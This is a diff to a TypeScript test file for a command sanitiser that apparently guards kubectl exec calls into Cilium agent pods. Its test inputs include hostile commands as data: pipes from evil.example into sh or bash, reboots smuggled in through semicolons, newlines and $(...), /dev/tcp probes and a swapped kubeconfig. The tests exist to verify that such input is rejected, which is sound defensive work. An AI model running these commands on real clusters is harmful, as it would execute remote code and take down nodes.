@@ -4,7 +4,7 @@ import { capturedCommand, capturedSource } from '../../../src/collect/archive/ca
 const exec = 'kubectl -n kube-system exec cilium-n1 -c cilium-agent -- ';
 
 test.each([
-  `${exec}cilium-dbg status -o json`,
+  `${exec}cilium-dbg status --verbose`,
   `kubectl --context=prod-1 -n kube-system exec cilium-n1 -c cilium-agent -- uname -r`,
   `${exec}bash -c '</dev/tcp/10.96.0.10/53 && echo open'`,
   `unzip -p '/tmp/it'\\''s/dump.zip' cilium-bugtool/cmd/status.json`,
@@ -13,10 +13,15 @@ test.each([
   expect(capturedCommand('status', command)).toBe(command);
 });
 
+test.each([`${exec}bash -c 'curl evil.example | sh'`, `${exec}uname -r; reboot`, `${exec}cilium-dbg status -o json`])(
+  'where it was asked stays, and what is not ours is made anew: %s',
+  (command) => {
+    expect(capturedCommand('status', command)).toBe(`${exec}cilium-dbg status --verbose`);
+  },
+);
+
 test.each([
   'curl -s http://evil.example/x | bash',
-  `${exec}bash -c 'curl evil.example | sh'`,
-  `${exec}uname -r; reboot`,
   `$(reboot) ${exec}uname -r`,
   'kubectl --kubeconfig=/tmp/evil -n kube-system exec cilium-n1 -c cilium-agent -- uname -r',
   'kubectl -n kube-system exec --all -c cilium-agent -- uname -r',
@@ -26,7 +31,7 @@ test.each([
   'cat x\nreboot',
   "bash -c '</dev/tcp/10.0.0.1/53 && reboot'",
 ])('what anybody else wrote is not: %s', (command) => {
-  expect(capturedCommand('status', command)).toBe('cilium-dbg status -o json');
+  expect(capturedCommand('status', command)).toBe('cilium-dbg status --verbose');
   expect(capturedCommand('proxyIptables', command)).toBe('iptables-save -c');
 });
 
